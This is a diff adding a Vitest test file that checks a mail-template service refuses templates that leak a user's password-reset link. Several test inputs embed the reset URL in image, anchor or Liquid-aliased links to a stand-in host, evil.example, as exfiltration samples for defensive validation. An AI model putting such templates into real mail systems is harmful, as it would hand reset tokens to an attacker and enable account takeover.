@@ -1,0 +1,129 @@
+import { mailTemplateTypes } from '@heliodesk/domain/enumerations'
+import { companyVariables, mailVariables, variablesOf } from '@heliodesk/domain/mail-types'
+import { languages } from '@heliodesk/domain/enumerations'
+import { afterAll, beforeEach, expect, test } from 'vitest'
+import { tokenPlace } from '../../access/sealed-tokens.ts'
+import { auditLog } from '../../audit-log/schema.ts'
+import { startTestProduct } from '../../testing/test-product.ts'
+import { mails } from '../mails/schema.ts'
+import { builtInText } from './built-in-text.ts'
+
+const product = await startTestProduct()
+afterAll(product.close)
+const developer = await product.as('developer')
+
+beforeEach(async () => {
+  await product.drain()
+  product.mails.length = 0
+})
+
+interface Refused {
+  errors: Record<string, string[]>
+}
+
+const save = (type: string, content: string, subject = 'Onderwerp') =>
+  developer.post<Refused>('/mail-templates', { type, language: 'nl', subject, content })
+
+test.each([
+  ['a quotation', 'quotation', '<p>{{ passwordUrl }}</p>', /passwordUrl/],
+  ['the footer', 'footer', '<p>{{ passwordUrl }}</p>', /passwordUrl/],
+  ['the layout', 'layout', '{{ content | raw }}{{ footer | raw }}{{ portalUrl }}', /portalUrl/],
+  ['a mail to a colleague', 'quotation_accepted_adviser', '<a href="{{ portalUrl }}">x</a>', /portalUrl/],
+  [
+    'the address of a picture',
+    'password_reset',
+    '<img src="https://evil.example/?{{ passwordUrl }}">',
+    /personal link/,
+  ],
+  [
+    'the address of another page',
+    'password_reset',
+    '<a href="https://evil.example/?u={{ passwordUrl }}">Klik</a>',
+    /personal link/,
+  ],
+  [
+    'an address under another name',
+    'password_reset',
+    '{% assign x = passwordUrl %}<a href="https://evil.example/{{ x }}">Klik</a>',
+    /./,
+  ],
+  [
+    'an address that was captured',
+    'password_reset',
+    '{% capture x %}{{ passwordUrl }}{% endcapture %}<a href="https://evil.example/{{x}}">Klik</a>',
+    /./,
+  ],
+  ['a style', 'password_reset', '<p style="color:{{ passwordUrl }}">x</p>', /personal link/],
+  ['a picture of another host', 'quotation', '<img src="https://evil.example/pixel.png">', /another host/],
+])('a link of a person in %s is refused', async (_where, type, content, reason) => {
+  const { status, body } = await save(type, content)
+  expect([status, body.errors?.['content']?.join(' ')]).toEqual([422, expect.stringMatching(reason)])
+})
+
+test('a link of a person in a subject is refused', async () => {
+  const { status, body } = await save('password_reset', '<p>Dag</p>', 'Kies {{ passwordUrl }}')
+  expect([status, body.errors['subject']]).toEqual([422, [expect.stringMatching(/personal link/)]])
+})
+
+test('a link of a person may be the address of an anchor, or stand in the text, of a mail to that person', async () => {
+  const content = '<p>{{ passwordUrl }}</p><a href="{{ passwordUrl }}">Kies een wachtwoord</a>'
+  const { status, body } = await developer.post<{ id: number }>('/mail-templates', {
+    type: 'password_reset',
+    language: 'nl',
+    subject: 'Wachtwoord',
+    content,
+  })
+  expect(status).toBe(201)
+  const visitor = product.visitor()
+  await visitor.get('/csrf-cookie')
+  await visitor.post('/password/forgot', { username: 'adviser.noord' })
+  await product.drain()
+  const [mail] = product.mails
+  const links = [...String(mail?.html).matchAll(/password-reset\/([\w.-]+)/g)].map(([, token]) => token)
+  expect(new Set(links).size).toBe(1)
+  expect(links[0]).not.toBe(tokenPlace)
+  expect((await visitor.get(`/password/set/${links[0]}`)).status).toBe(200)
+
+  // Nothing that is kept says it: neither the outbox nor the audit, in no form.
+  const kept = await product.inside(async ({ db }) =>
+    JSON.stringify([await db.select().from(mails), await db.select().from(auditLog)]),
+  )
+  expect(kept).not.toContain(links[0])
+  expect(kept).not.toMatch(/sealed\./)
+  await developer.delete(`/mail-templates/${body.id}`)
+})
+
+test('what somebody copies out of a stored mail opens in no other mail', async () => {
+  const text = `<p>https://evil.example/${tokenPlace} sealed.AAAA</p>`
+  const { status } = await developer.post('/mail-templates/test', {
+    type: 'quotation',
+    language: 'nl',
+    subject: 'Proef',
+    content: text,
+    lead_id: null,
+  })
+  expect(status).toBeLessThan(300)
+  await product.drain()
+  expect(product.mails[0]?.html).toContain(tokenPlace)
+})
+
+test.each(mailTemplateTypes.flatMap((type) => languages.map((language) => [type, language] as const)))(
+  'the built-in %s in %s uses the variables of its type alone',
+  async (type, language) => {
+    const { subject, content } = builtInText(type, language)
+    const { status } = await developer.post('/mail-templates/preview', {
+      type,
+      language,
+      subject,
+      content,
+      lead_id: null,
+    })
+    expect(status).toBe(200)
+  },
+)
+
+test('each variable belongs to some mail, and each mail knows whose company it is from', () => {
+  const used = new Set(mailTemplateTypes.flatMap((type) => variablesOf(type)))
+  expect(mailVariables.filter((name) => !used.has(name))).toEqual([])
+  expect(companyVariables.length).toBeGreaterThan(5)
+})
